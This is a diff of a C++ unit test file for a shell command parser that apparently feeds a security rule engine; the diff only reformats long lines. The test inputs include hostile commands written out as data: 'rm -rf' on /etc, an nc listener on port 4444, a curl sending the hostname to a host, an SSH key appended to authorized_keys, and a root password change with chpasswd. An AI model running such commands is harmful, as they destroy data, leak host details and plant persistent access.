@@ -30,23 +30,27 @@ BOOST_AUTO_TEST_CASE(cluster_of_letters_is_several_options) {
     auto const names = [&](std::string_view program) {
         std::vector<std::string> all;
         for (auto const& each : line.read.options_of(line.of(program)))
-            all.emplace_back(each.has_value ? std::string(each.name) + "=" + std::string(each.value) : std::string(each.name));
+            all.emplace_back(each.has_value ? std::string(each.name) + "=" + std::string(each.value)
+                                            : std::string(each.name));
         return all;
     };
     BOOST_TEST(names("rm") == (std::vector<std::string>{"-r", "-f"}), boost::test_tools::per_element());
     BOOST_TEST(names("tail") == (std::vector<std::string>{"-31"}), boost::test_tools::per_element());
     BOOST_TEST(names("nc") == (std::vector<std::string>{"-l", "-v", "-p=4444"}), boost::test_tools::per_element());
-    BOOST_TEST(names("curl") == (std::vector<std::string>{"-s", "-S", "-L", "-o=out"}), boost::test_tools::per_element());
+    BOOST_TEST(names("curl") == (std::vector<std::string>{"-s", "-S", "-L", "-o=out"}),
+               boost::test_tools::per_element());
 }
 
 BOOST_AUTO_TEST_CASE(attached_separate_and_long_values_are_one_option) {
-    for (std::string_view const text : {"wget -O f u", "wget -Of u", "wget --output-document f u", "wget --output-document=f u"}) {
+    for (std::string_view const text :
+         {"wget -O f u", "wget -Of u", "wget --output-document f u", "wget --output-document=f u"}) {
         line_reading const line(text);
         auto const options = line.read.options_of(line.of("wget"));
         BOOST_REQUIRE(options.size() == 1U);
         BOOST_TEST((options[0].name == "-O" || options[0].twin == "-O"));
         BOOST_TEST(options[0].value == "f");
-        BOOST_TEST(texts(line.read.operands(line.of("wget"))) == (std::vector<std::string>{"u"}), boost::test_tools::per_element());
+        BOOST_TEST(texts(line.read.operands(line.of("wget"))) == (std::vector<std::string>{"u"}),
+                   boost::test_tools::per_element());
     }
 }
 
@@ -54,8 +58,10 @@ BOOST_AUTO_TEST_CASE(unset_variable_is_kept_in_one_reading_and_empty_in_the_next
     line_reading const line("rm -rf ${zz}/etc");
     BOOST_REQUIRE(line.read.commands.size() == 2U);
     BOOST_TEST((line.read.commands[0].from == source::kept));
-    BOOST_TEST(texts(line.read.operands(line.read.commands[0])) == (std::vector<std::string>{"$zz/etc"}), boost::test_tools::per_element());
-    BOOST_TEST(texts(line.read.operands(line.read.commands[1])) == (std::vector<std::string>{"/etc"}), boost::test_tools::per_element());
+    BOOST_TEST(texts(line.read.operands(line.read.commands[0])) == (std::vector<std::string>{"$zz/etc"}),
+               boost::test_tools::per_element());
+    BOOST_TEST(texts(line.read.operands(line.read.commands[1])) == (std::vector<std::string>{"/etc"}),
+               boost::test_tools::per_element());
 }
 
 BOOST_AUTO_TEST_CASE(stages_of_a_pipeline_know_each_other_through_groups) {
@@ -71,7 +77,8 @@ BOOST_AUTO_TEST_CASE(stages_of_a_pipeline_know_each_other_through_groups) {
 }
 
 BOOST_AUTO_TEST_CASE(place_tells_what_encloses_a_command) {
-    line_reading const line("for i in a; do id; done; f() { w; }; trap 'who' EXIT; curl -d \"$(hostname)\" http://h; x=$(date)");
+    line_reading const line(
+        "for i in a; do id; done; f() { w; }; trap 'who' EXIT; curl -d \"$(hostname)\" http://h; x=$(date)");
     auto const kind = [&](std::string_view program) {
         auto const place = line.of(program).place;
         BOOST_REQUIRE(place != none);
@@ -106,7 +113,8 @@ BOOST_AUTO_TEST_CASE(bytes_of_the_line_are_told_also_behind_dropped_ones) {
 }
 
 BOOST_AUTO_TEST_CASE(data_is_what_a_command_prints_or_gets) {
-    line_reading const line("echo 'ssh-rsa AAAA' | tee -a ~/.ssh/authorized_keys; chpasswd <<< root:x; cat <<E\nbody\nE");
+    line_reading const line(
+        "echo 'ssh-rsa AAAA' | tee -a ~/.ssh/authorized_keys; chpasswd <<< root:x; cat <<E\nbody\nE");
     BOOST_TEST(line.of("echo").output == "ssh-rsa AAAA\n");
     BOOST_TEST(line.of("tee").input == "ssh-rsa AAAA\n");
     BOOST_TEST(line.of("chpasswd").input == "root:x\n");
@@ -125,15 +133,18 @@ BOOST_AUTO_TEST_CASE(assignments_in_front_are_kept_for_rules) {
 BOOST_AUTO_TEST_CASE(script_is_a_command_of_its_own) {
     line_reading const line("python3 /opt/x.py a; sh ./y.sh");
     BOOST_TEST(line.of("x.py").script);
-    BOOST_TEST(texts(line.read.via(line.of("x.py"))) == (std::vector<std::string>{"python3"}), boost::test_tools::per_element());
+    BOOST_TEST(texts(line.read.via(line.of("x.py"))) == (std::vector<std::string>{"python3"}),
+               boost::test_tools::per_element());
     BOOST_TEST(line.of("python3").family == "python");
     BOOST_TEST(line.of("y.sh").path == "./y.sh");
 }
 
 BOOST_AUTO_TEST_CASE(redirect_of_a_group_is_one_of_every_command_inside) {
     line_reading const line("{ id; w >a; } >>/var/log/x");
-    BOOST_TEST(line.targets("id", effect_kind::appends) == (std::vector<std::string>{"/var/log/x"}), boost::test_tools::per_element());
-    BOOST_TEST(line.targets("w", effect_kind::empties) == (std::vector<std::string>{"a"}), boost::test_tools::per_element());
+    BOOST_TEST(line.targets("id", effect_kind::appends) == (std::vector<std::string>{"/var/log/x"}),
+               boost::test_tools::per_element());
+    BOOST_TEST(line.targets("w", effect_kind::empties) == (std::vector<std::string>{"a"}),
+               boost::test_tools::per_element());
 }
 
 BOOST_AUTO_TEST_CASE(decoded_commands_say_so) {
